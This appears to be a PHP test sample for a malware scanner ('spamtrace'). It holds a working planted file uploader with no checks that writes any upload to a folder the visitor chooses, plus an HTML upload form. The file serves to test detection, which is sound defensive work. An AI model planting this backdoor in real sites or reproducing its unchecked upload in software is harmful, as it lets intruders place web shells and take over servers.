<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A planted uploader: no check at all, and the visitor names the folder the file goes to.
error_reporting(0);
if (!empty($_FILES['f'])) {
    echo move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']) ? 'ok' : 'no';
}
?>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input name="dir"><input type="submit"></form>
